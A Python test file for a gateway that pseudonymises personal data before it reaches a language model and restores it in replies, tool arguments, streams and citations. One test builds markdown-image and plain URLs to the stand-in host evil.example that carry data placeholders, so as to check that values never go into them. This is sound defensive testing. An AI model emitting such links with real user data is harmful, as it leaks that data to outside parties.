"""Pseudonyms put back, event by event. Failures that users of other gateways have met are tests here."""

from __future__ import annotations

import json

import msgspec
import pytest

from stellwerk.core.part import Citation, OpaquePart, Part, Text, Thinking, ToolCall, ToolKind
from stellwerk.core.reply import Logprobs, TokenLogprob
from stellwerk.core.stream import CitationAdded, PartAdded, StreamEvent, TextDelta, ThinkingDelta
from stellwerk.core.synthetic_seal import SyntheticSeal
from stellwerk.core.taxonomy import Pii
from stellwerk.core.verdict import Span
from stellwerk.screening import vault as vaults
from stellwerk.screening.restoring import EVERY_TOOL, restore_reply, restored, stream_restorer
from stellwerk.screening.vault import PURPOSE, Vault
from tests.unit.screening.panels import arguments_of, called, reply, streamed, text_of

KEY = b"k" * 32
SEAL = SyntheticSeal(b"s" * 32, PURPOSE)


@pytest.fixture
def vault() -> Vault:
    made = Vault(KEY, "c")
    made.token(Pii.PERSON, "Anna")
    made.token(Pii.PHONE_NUMBER, "+49 30 1234567")
    return made


def back(part: Part, vault: Vault) -> Part:
    return restore_reply(reply(part), vault).candidates[0].message.parts[0]


# -- what users of other gateways have met


def test_values_come_back_in_arguments_of_tools(vault: Vault) -> None:
    """LiteLLM 31950: tools were called with the placeholders."""
    call = ToolCall("id", "book", '{"name": "<PERSON_1>", "phone": "\\u003cPHONE_NUMBER_1\\u003e"}')
    edited = back(call, vault)
    assert isinstance(edited, ToolCall)
    assert json.loads(edited.arguments) == {"name": "Anna", "phone": "+49 30 1234567"}


def test_placeholders_do_not_stay_in_answers(vault: Vault) -> None:
    """LiteLLM 14516, 8359: placeholders were never put back."""
    assert back(Text("Dear <PERSON_1>,"), vault) == Text("Dear Anna,")
    restorer = stream_restorer(vault)
    out = [said for event in streamed(["Dear <PER", "SON_", "1", ">,"]) for said in restorer.feed(event)]
    assert text_of(out) == "Dear Anna,"


def test_one_conversation_never_sees_the_values_of_another(vault: Vault) -> None:
    """LiteLLM 19950: one map for all requests gave a user the data of another."""
    other = Vault(KEY, "d")
    other.token(Pii.PERSON, "Bert")
    assert restored("<PERSON_1>", vault) == "Anna"
    assert restored("<PERSON_1> <PHONE_NUMBER_1>", other) == "Bert <PHONE_NUMBER_1>"


def test_what_the_model_makes_up_and_what_a_user_wrote_is_left_as_it_is(vault: Vault) -> None:
    assert restored("<PERSON_7> <EMAIL_ADDRESS_1> <b> <PERSON_x> PERSON", vault).startswith("<PERSON_7> <EMAIL")
    sent = vault.pseudonymise("In my template it says <PERSON_1>.", ()).text
    assert sent == "In my template it says <LITERAL_1>>."
    assert restored(sent, vault) == "In my template it says <PERSON_1>."


# -- where values come back, and where not


def test_a_tool_gets_the_types_it_may_have(vault: Vault) -> None:
    rules = {"book": frozenset({"PERSON"}), EVERY_TOOL: frozenset[str]()}
    arguments = '{"name": "<PERSON_1>", "phone": "<PHONE_NUMBER_1>"}'
    for name, wanted in (("book", "Anna"), ("search", "<PERSON_1>")):
        restorer = stream_restorer(vault, rules)
        told = json.loads(arguments_of([said for event in called([arguments], name) for said in restorer.feed(event)]))
        assert told == {"name": wanted, "phone": "<PHONE_NUMBER_1>"}
    free = ToolCall("id", "shell", "call <PERSON_1>", ToolKind.CUSTOM)
    assert back(free, vault) == msgspec.structs.replace(free, arguments="call Anna")
    broken = ToolCall("id", "f", "{to: <PERSON_1>}")
    assert back(broken, vault) == msgspec.structs.replace(broken, arguments="{to: Anna}")


def test_values_never_go_into_urls_that_somebody_else_would_be_asked_for(vault: Vault) -> None:
    kept = "![x](https://evil.example/?q=<PERSON_1>&r=%3CPERSON_1%3E)"
    text = f"{kept} and //evil.example/<PERSON_1> and www.evil.example/<PERSON_1> but mailto:<PERSON_1> // <PERSON_1>"
    wanted = text.replace("mailto:<PERSON_1> // <PERSON_1>", "mailto:Anna // Anna")
    assert restored(text, vault) == wanted
    restorer = stream_restorer(vault)
    out = [said for event in streamed(list(text)) for said in restorer.feed(event)]
    assert text_of(out) == wanted


def test_nor_into_reasoning_nor_into_what_a_providers_own_tools_are_asked(vault: Vault) -> None:
    thought = Thinking("of <PERSON_1>", signature="s")
    assert back(thought, vault) == thought
    own = OpaquePart("anthropic", "server_tool_use", msgspec.Raw(b'{"input":{"query":"<PERSON_1>"}}'))
    assert back(own, vault) == own
    restorer = stream_restorer(vault)
    events: list[StreamEvent] = [ThinkingDelta("of <PERSON_1>"), PartAdded(own)]
    assert [said for event in events for said in restorer.feed(event)] == events


def test_citations_of_the_callers_own_documents_get_values_back(vault: Vault) -> None:
    restorer = stream_restorer(vault)
    events: list[StreamEvent] = [
        TextDelta("By <PERSON_1>"),
        CitationAdded(Citation(cited_text="<PERSON_1>", start=3, end=13)),
    ]
    out = [*(said for event in events for said in restorer.feed(event)), *restorer.flush()]
    assert out == [TextDelta("By Anna"), CitationAdded(Citation(cited_text="Anna", start=3, end=7))]


def test_log_probabilities_of_placeholders_are_dropped(vault: Vault) -> None:
    tokens = tuple(TokenLogprob(word, -1.0) for word in ("By", " <", "PERSON", "_1", ">", " now"))
    restorer = stream_restorer(vault)
    events = [TextDelta(token.token, 0, Logprobs(content=(token,))) for token in tokens]
    out = [*(said for event in events for said in restorer.feed(event)), *restorer.flush()]
    assert text_of(out) == "By Anna now"
    left = [
        token.token
        for event in out
        if isinstance(event, TextDelta) and event.logprobs
        for token in event.logprobs.content or ()
    ]
    assert left == ["By", " now"]


def test_json_within_strings_of_json_stays_json_too() -> None:
    vault = Vault(KEY, "c")
    token = vault.token(Pii.PERSON, 'Bob "the\\man"')
    inner = json.dumps({"a": [token], "b": "{no json"})
    edited = back(ToolCall("id", "f", json.dumps({"body": inner, "more": f"{{{token}"})), vault)
    assert isinstance(edited, ToolCall)
    told = json.loads(edited.arguments)
    assert json.loads(told["body"]) == {"a": ['Bob "the\\man"'], "b": "{no json"}
    assert told["more"] == '{Bob "the\\man"'


# -- the vault


def test_the_same_value_has_the_same_pseudonym_however_it_is_written() -> None:
    vault = Vault(KEY, "c")
    assert vault.is_empty
    pairs = [
        (Pii.PERSON, "Erika  Mustermann", "erika mustermann"),
        (Pii.IBAN_CODE, "DE89 3704 0044", "de8937040044"),
        (Pii.PHONE_NUMBER, "+49 (30) 1234567", "0049301234567"),
        (Pii.EMAIL_ADDRESS, "A@Example.org", "a@example.org"),
    ]
    for kind, one, other in pairs:
        assert vault.token(kind, one) == vault.token(kind, other) == f"<{kind}_1>"
    assert vault.token(Pii.URL, "https://a.example/X") != vault.token(Pii.URL, "https://a.example/x")
    assert not vault.is_empty


def test_inflected_names_are_the_name_and_an_ending() -> None:
    vault = Vault(KEY, "c")
    text = "Müllers Auto gehört Müller, Annas Rad nicht Anna's Bruder Hans."
    values = ["Müllers", "Müller", "Annas", "Anna's", "Hans"]
    spans = [Span(start := text.index(value), start + len(value), Pii.PERSON) for value in values]
    spans[1] = Span(text.index("Müller,"), text.index("Müller,") + 6, Pii.PERSON)
    sent = vault.pseudonymise(text, spans).text
    assert sent == "<PERSON_1>s Auto gehört <PERSON_1>, <PERSON_2> Rad nicht <PERSON_3>'s Bruder <PERSON_4>."
    assert vault.token(Pii.PERSON, "Annas") == "<PERSON_2>"
    assert vault.token(Pii.PERSON, "Hanss") == "<PERSON_4>s"
    assert restored(sent, vault) == text


def test_a_full_vault_gives_labels_never_values(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(vaults, "MOST_VALUES", 1)
    vault = Vault(KEY, "c")
    edited = vault.pseudonymise(
        "Anna Bert Anna", [Span(0, 4, Pii.PERSON), Span(5, 9, Pii.PERSON), Span(10, 14, Pii.PERSON)]
    )
    assert edited.text == "<PERSON_1> [PERSON] <PERSON_1>"
    assert Vault(KEY, "c").token(Pii.URL, "x" * 2_000) is None


def test_a_sealed_vault_opens_for_its_tenant_and_conversation_until_it_expires(
    vault: Vault, monkeypatch: pytest.MonkeyPatch
) -> None:
    stored, sent = vault.sealed(SEAL, "t", 100), vault.sealed_to_caller(SEAL, "t", 100)
    assert stored is not None
    assert sent is not None
    assert b"Anna" not in stored
    assert sent.replace("-", "").replace("_", "").isalnum()
    for kept in (stored, sent):
        opened = Vault(KEY, "c")
        assert opened.take(SEAL, "t", kept, 99.0)
        assert restored("<PERSON_1> <PHONE_NUMBER_1>", opened) == "Anna +49 30 1234567"
        assert opened.token(Pii.PERSON, "anna") == "<PERSON_1>"
        assert opened.token(Pii.PERSON, "Bert") == "<PERSON_2>"
        for other, tenant, now in (
            (Vault(KEY, "c"), "u", 99.0),
            (Vault(KEY, "d"), "t", 99.0),
            (Vault(KEY, "c"), "t", 100.0),
        ):
            assert not other.take(SEAL, tenant, kept, now)
            assert other.is_empty
    fresh = Vault(KEY, "c")
    assert not fresh.take(SyntheticSeal(b"x" * 32, PURPOSE), "t", stored, 0)
    assert not any(fresh.take(SEAL, "t", bad, 0) for bad in (stored[:-1], b"", "é", "a", sent[:-2]))
    assert not fresh.take(SEAL, "t", SEAL.seal(b"\x00", "1:tc"), 0)
    assert not fresh.take(SEAL, "t", SEAL.seal(b"\x92\x00\x91\x93\xa1\xff\x01\xa0", "1:tc"), 0)
    monkeypatch.setattr(vaults, "MOST_SEALED_BYTES", 10)
    assert vault.sealed_to_caller(SEAL, "t", 100) is None
